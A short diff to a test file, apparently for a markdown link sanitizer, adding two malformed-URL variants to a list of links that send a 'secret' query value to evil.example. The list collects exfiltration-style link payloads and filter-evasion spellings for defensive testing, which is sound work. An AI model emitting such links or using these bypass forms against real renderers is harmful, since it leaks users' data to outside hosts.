@@ -99,6 +99,8 @@ def test_no_link_runs_anything(text):
 
 SENDING = [
     "[a](https://evil.example/?q=secret)",
+    "[a](https:evil.example/?q=secret)",
+    "[a](HTTPS:/evil.example/?q=secret)",
     "[a](<https://evil.example/?q=secret>)",
     "[a](https://evil.example/&quest;q=secret)",
     "[a](https://evil.example/\\?q=secret)",
